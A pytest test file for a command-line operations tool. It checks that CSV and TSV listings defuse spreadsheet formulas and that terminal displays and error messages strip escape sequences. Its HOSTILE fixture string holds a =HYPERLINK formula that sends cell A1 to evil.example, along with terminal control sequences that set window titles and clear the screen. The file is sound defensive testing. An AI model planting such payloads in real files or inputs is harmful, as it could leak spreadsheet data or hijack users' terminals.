"""Output that cannot attack its reader (issue 19, part 7).

Stored text is whatever somebody typed: a title that starts with ``=`` must not run as a formula
in the spreadsheet that opens a CSV/TSV listing, and an escape sequence in a name or a reason
must not reach the terminal of the manager who lists it. Storage and ``-f json`` keep the text
exactly; ``--raw`` writes CSV/TSV as stored.

One small team (ada admin, mona manager of wei) whose every free-text field holds HOSTILE.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from opsctl.clock import FixedClock
from tests.conftest import DEFAULT_NOW

# A formula that sends the sheet away, a hidden hyperlink (OSC 8), a window title (OSC 0), a
# cleared screen (CSI) and a red colour, a bell and a carriage return that would hide the start.
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"ok") \x1b]8;;http://evil.example\x07link\x1b]8;;\x07'
           '\x1b]0;owned\x07\x1b[2J\x1b[31m red\x1b[0m\x07 \rdone')
SHOWN = '=HYPERLINK("http://evil.example/?"&A1,"ok") link red done'  # what a terminal may show
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d", "\r")


def run(db: Path, *args: str, user: str = "ada", env: dict[str, str] | None = None) -> Any:
    from opsctl.cli.context import AppContext
    from opsctl.cli.main import app

    environment: dict[str, str | None] = {"OPSCTL_DB": str(db), "OPSCTL_USER": user, "NO_COLOR": "1",
                                         "OPSCTL_WIDTH": None, **(env or {})}
    result = CliRunner().invoke(app, list(args), obj=AppContext(clock=FixedClock(DEFAULT_NOW)), env=environment)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Now is Wednesday 2026-03-18 09:30 in Shanghai; every write below stores HOSTILE."""
    path = tmp_path_factory.mktemp("hostile") / "opsctl.db"
    writes: list[tuple[str, tuple[str, ...]]] = [
        ("ada", ("init", "--timezone", "Asia/Shanghai", "--admin", "ada", "--name", "Ada")),
        ("ada", ("team", "add", "Ops")),
        ("ada", ("people", "add", "mona", "--name", "Mona", "--role", "manager")),
        ("ada", ("people", "add", "wei", "--name", "Wei", "--team", "Ops", "--manager", "mona")),
        ("ada", ("people", "add", "eve", "--name", HOSTILE, "--team", "Ops", "--manager", "mona")),
        ("ada", ("calendar", "add", "2026-04-06", "--kind", "holiday", "--name", HOSTILE)),
        ("wei", ("attend", "in", "--note", HOSTILE)),
        ("wei", ("attend", "fix", "2026-03-17", "--in", "09:00", "--out", "18:00", "--reason", HOSTILE)),
        ("ada", ("leave", "allocate", "wei", "annual", "5", "--year", "2026")),
        ("wei", ("leave", "request", "annual", "--from", "2026-03-30", "--reason", HOSTILE)),
        ("mona", ("leave", "approve", "1")),
        ("ada", ("project", "new", "NET", "--name", HOSTILE)),
        ("ada", ("task", "add", HOSTILE, "--assignee", "wei", "--due", "2026-03-20")),
        ("ada", ("meeting", "new", HOSTILE, "--at", "2026-03-17 10:00", "--with", "wei")),
        ("ada", ("meeting", "action", "1", HOSTILE, "--owner", "wei", "--due", "2026-03-25")),
        ("ada", ("training", "plan", "add", HOSTILE, "--year", "2026")),
        ("ada", ("training", "cert", "add", "wei", HOSTILE, "--issued", "2026-01-01", "--expires", "2026-04-30")),
        ("ada", ("task", "add", HOSTILE, "--assignee", "wei", "--due", "today")),
    ]
    for user, args in writes:
        result = run(path, *args, user=user)
        assert result.exit_code == 0, (args, result.output)
    yield path


# (acting login, listing, the CSV column that holds HOSTILE)
LISTINGS = [
    ("ada", "people list", "name"),
    ("ada", "calendar list --year 2026", "name"),
    ("ada", "attend log wei", "note"),
    ("ada", "attend requests", "reason"),
    ("ada", "leave list", "reason"),
    ("ada", "project list", "name"),
    ("ada", "task list --all", "title"),
    ("wei", "task week", "title"),
    ("ada", "meeting list --from 2026-03-01 --to 2026-03-31", "title"),
    ("ada", "meeting followup", "title"),
    ("ada", "training plan list --year 2026", "title"),
    ("ada", "training cert list", "certificate"),
    ("ada", "training cert expiring", "certificate"),
]


def _column(text: str, delimiter: str, key: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
    assert rows and key in rows[0], (key, text)
    return [row[key] for row in rows]


@pytest.mark.parametrize(("user", "listing", "key"), LISTINGS, ids=[listing for _, listing, _ in LISTINGS])
def test_every_listing_writes_csv_and_tsv_that_no_spreadsheet_runs(db: Path, user: str, listing: str,
                                                                    key: str) -> None:
    stored = [row[key] or "" for row in json.loads(run(db, *listing.split(), "-f", "json", user=user).stdout)]
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        escaped = run(db, *listing.split(), "-f", fmt, user=user)
        assert escaped.exit_code == 0, escaped.output
        assert "'" + SHOWN in _column(escaped.stdout, delimiter, key)
        assert not any(char in escaped.stdout for char in TERMINAL_CONTROLS)
        raw = run(db, *listing.split(), "-f", fmt, "--raw", user=user)
        assert raw.exit_code == 0, raw.output
        assert _column(raw.stdout, delimiter, key) == stored  # exactly as stored
        assert any(text.startswith("=HYPERLINK(") and "\x1b]8;;" in text for text in stored)


# (acting login, a command that shows HOSTILE to a person at a terminal)
DISPLAYS = [
    ("ada", "task list --all"), ("ada", "task show 1"), ("wei", "today"), ("ada", "leave list"),
    ("ada", "leave show 1"), ("ada", "people list"), ("ada", "people show eve"), ("ada", "attend requests"),
    ("ada", "meeting show 1"), ("ada", "meeting followup"), ("ada", "project show NET"),
    ("ada", "attend month 2026-03 --person eve"), ("ada", "training cert list"),
]


@pytest.mark.parametrize(("user", "command"), DISPLAYS, ids=[command for _, command in DISPLAYS])
@pytest.mark.parametrize("width", [None, 80])
def test_stored_escape_sequences_never_reach_the_terminal(db: Path, user: str, command: str,
                                                          width: int | None) -> None:
    extra = {"OPSCTL_WIDTH": str(width)} if width else {}
    for fmt in ("table", "md"):
        shown = run(db, *command.split(), "-f", fmt, user=user, env=extra)
        assert shown.exit_code == 0, shown.output
        assert not any(char in shown.stdout + shown.stderr for char in TERMINAL_CONTROLS), repr(shown.stdout)
        if width is None:  # every cell whole: the text is shown, only defused (80 columns may cut it)
            assert "=HYPERLINK(" in shown.stdout, shown.stdout


def test_json_keeps_the_stored_text_and_escapes_what_a_terminal_would_obey(db: Path) -> None:
    printed = run(db, "leave", "show", "1", "-f", "json").stdout
    assert not any(char in printed for char in TERMINAL_CONTROLS)  # \u001b, \u0007: JSON escapes
    reason = json.loads(printed)["reason"]
    assert reason.startswith("=HYPERLINK(") and "\x1b]8;;http://evil.example\x07" in reason and "\x1b[2J" in reason
    today = json.loads(run(db, "today", "-f", "json", user="wei").stdout)
    assert any(task["title"].startswith("=HYPERLINK(") and "\x1b[31m" in task["title"]
               for task in today["tasks"])


def test_negative_numbers_stay_numbers_in_csv(db: Path) -> None:
    ledger = run(db, "leave", "balance", "wei", "--ledger", "-f", "csv").stdout
    days = [row["days"] for row in csv.DictReader(io.StringIO(ledger))]
    assert days == ["5.0", "-1.0"]  # an allocation, the approved day: numbers, no "'"


def test_an_error_quoting_what_was_typed_carries_no_escape_sequence(db: Path) -> None:
    for args in (("attend", "import", "punches\x1b]0;owned\x07\x1b[2J.csv"), ("task", "assign", "1", "x\x1b[2Jy"),
                 ("people", "show", "\x1b]0;owned\x07eve"), ("task", "list", "--status", "\x1b[2J")):
        failed = run(db, *args)
        assert failed.exit_code in (1, 3), failed.output
        assert failed.stderr.startswith("Error: ") and failed.stderr.count("\n") == 1, failed.stderr
        assert not any(char in failed.stderr for char in TERMINAL_CONTROLS), repr(failed.stderr)
